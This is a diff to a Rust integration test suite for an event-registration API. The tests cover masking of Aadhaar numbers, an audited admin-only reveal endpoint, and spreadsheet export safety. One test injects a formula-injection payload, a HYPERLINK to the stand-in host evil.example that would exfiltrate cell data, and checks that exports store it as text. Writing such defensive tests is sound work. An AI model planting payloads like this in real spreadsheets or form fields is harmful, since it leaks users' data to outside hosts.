@@ -53,6 +53,7 @@ async fn the_role_matrix_over_every_admin_route() {
         (Method::PUT, "/api/v1/admin/events/football/settings".into(), json!({"registrationOpen": true}), true),
         (Method::POST, "/api/v1/admin/registrations/nothing/mark-paid".into(), json!({}), true),
         (Method::GET, "/api/v1/admin/audit-log".into(), json!({}), true),
+        (Method::POST, "/api/v1/admin/registrations/nothing/reveal-aadhaar".into(), json!({}), true),
     ];
     for (who, token) in &tokens {
         for (method, path, body, admin_only) in &routes {
@@ -148,7 +149,7 @@ async fn users_search_filter_page_and_role_changes() {
 }
 
 #[tokio::test]
-async fn event_registrations_search_filter_and_reveal_aadhaar_only_to_admins() {
+async fn event_registrations_search_filter_and_mask_aadhaar_for_everyone() {
     let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
     let admin = app.user_with_role("head", Role::Admin).await;
     let moderator = app.user_with_role("helper", Role::Moderator).await;
@@ -169,14 +170,64 @@ async fn event_registrations_search_filter_and_reveal_aadhaar_only_to_admins() {
     let record = &two["registrations"][0];
     assert_eq!(record["userId"]["username"], "teamtwo");
     assert_eq!(record["paymentStatus"], "paid");
-    assert_eq!(record["team"]["captain"][0]["aadharId"], "123400000002", "admins see Aadhaar in full");
+    assert_eq!(record["team"]["captain"][0]["aadharId"], "XXXXXXXX0002", "list views mask Aadhaar for admins too");
     let masked = app.get_as("/api/v1/events/kabaddi/registrations?search=teamtwo", &moderator).await.json();
     assert_eq!(masked["registrations"][0]["team"]["captain"][0]["aadharId"], "XXXXXXXX0002");
+    let all_admin = app.get_as("/api/v1/events/all-registrations", &admin).await;
+    assert!(!all_admin.text().contains("123400000002"), "{}", all_admin.text());
 
     let grouped = app.get_as("/api/v1/events/all-registrations", &moderator).await.json();
     assert_eq!(grouped["registrations"]["kabaddi"].as_array().unwrap().len(), 4);
     let capped = app.get_as("/api/v1/events/all-registrations?limit=2", &moderator).await.json();
     assert_eq!(capped["registrations"]["kabaddi"].as_array().unwrap().len(), 2, "the newest two");
+}
+
+#[tokio::test]
+async fn an_admin_reveals_one_registrations_aadhaar_numbers_and_it_is_audited() {
+    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
+    let admin = app.user_with_role("keeper", Role::Admin).await;
+    let moderator = app.user_with_role("viewer", Role::Moderator).await;
+    let player = app.user_with_role("owner", Role::User).await;
+    paid_registration(&app, &player, "chess", None).await;
+
+    let grouped = app.get_as("/api/v1/events/all-registrations", &admin).await.json();
+    let record = grouped["registrations"]["chess"][0].clone();
+    let text = record.to_string();
+    assert!(text.contains("XXXXXXXX0002") && !text.contains("123400000002"), "masked for admins: {text}");
+    let id = record["_id"].as_str().unwrap().to_owned();
+    let path = format!("/api/v1/admin/registrations/{id}/reveal-aadhaar");
+
+    assert_eq!(call(&app, Method::POST, &path, None, json!({})).await.status, StatusCode::UNAUTHORIZED);
+    let res = call(&app, Method::POST, &path, Some(&moderator), json!({})).await;
+    assert_eq!(res.status, StatusCode::FORBIDDEN);
+    assert_eq!(res.json()["success"], false);
+    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
+    assert!(log["entries"].as_array().unwrap().iter().all(|e| e["action"] != "registration.reveal_aadhaar"));
+
+    let res = call(&app, Method::POST, &path, Some(&admin), json!({})).await;
+    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
+    let body = res.json();
+    assert_eq!(body["success"], true);
+    assert_eq!(body["registrationId"], id.as_str());
+    let numbers = body["numbers"].as_array().unwrap();
+    assert_eq!(numbers.len(), 5, "the captain and four players: {body}");
+    let captain = numbers.iter().find(|n| n["path"] == "team.captain[0]").unwrap_or_else(|| panic!("{body}"));
+    assert_eq!(captain["aadharId"], "123400000002");
+    let shown = &record["team"]["captain"][0];
+    assert_eq!(captain["fullname"], shown["fullname"], "the path names the person of the record");
+
+    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
+    let entry = &log["entries"][0];
+    assert_eq!(entry["action"], "registration.reveal_aadhaar");
+    assert_eq!(entry["target"], id.as_str());
+    assert_eq!(entry["actor"]["username"], "keeper");
+    assert_eq!(entry["details"]["numbers"], 5);
+
+    let missing = call(&app, Method::POST, "/api/v1/admin/registrations/nope/reveal-aadhaar", Some(&admin), json!({}));
+    assert_eq!(missing.await.status, StatusCode::NOT_FOUND);
+    let doc = app.get("/api/v1/openapi.json").await.json();
+    assert!(doc["paths"]["/api/v1/admin/registrations/{id}/reveal-aadhaar"]["post"].is_object());
+    assert!(doc["components"]["schemas"]["RevealAadhaarResponse"].is_object(), "a typed response");
 }
 
 #[tokio::test]
@@ -214,6 +265,37 @@ async fn exports_parse_as_csv_xlsx_and_json_with_a_row_per_member() {
     assert_eq!(app.get_as("/api/v1/events/chess/export?format=pdf", &admin).await.status, StatusCode::BAD_REQUEST);
     let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
     assert_eq!(log["entries"].as_array().unwrap().iter().filter(|e| e["action"] == "registrations.export").count(), 3);
+}
+
+#[tokio::test]
+async fn exported_cells_that_look_like_formulas_are_text_not_formulas() {
+    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
+    let admin = app.user_with_role("auditor", Role::Admin).await;
+    let player = app.user_with_role("mallory", Role::User).await;
+    let evil = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
+    let mut form = team("chess", None);
+    form["collegeName"] = json!(evil);
+    form["collegeAddress"] = json!("  @SUM(1+1)");
+    let res = call(&app, Method::POST, "/api/v1/events/chess/create-order", Some(&player), form).await;
+    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
+
+    let csv = app.get_as("/api/v1/events/chess/export?format=csv", &admin).await;
+    let mut reader = csv::Reader::from_reader(csv.body.as_slice());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let college = header.iter().position(|h| h == "College").unwrap();
+    let address = header.iter().position(|h| h == "College address").unwrap();
+    assert_eq!(&rows[0][college], format!("'{evil}"), "a formula is prefixed with a quote");
+    assert_eq!(&rows[0][address], "'@SUM(1+1)", "leading spaces do not hide a formula");
+    assert!(rows.iter().all(|r| !r[header.iter().position(|h| h == "Member name").unwrap()].starts_with('\'')));
+
+    let xlsx = app.get_as("/api/v1/events/chess/export?format=xlsx", &admin).await;
+    use calamine::{Data, Reader, Xlsx};
+    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx.body.clone())).unwrap();
+    let formulas = book.worksheet_formula("Chess").unwrap();
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell of the workbook is a formula");
+    let sheet = book.worksheet_range("Chess").unwrap();
+    assert_eq!(sheet.get((1, college)), Some(&Data::String(evil.to_owned())), "stored as a text string");
 }
 
 #[tokio::test]
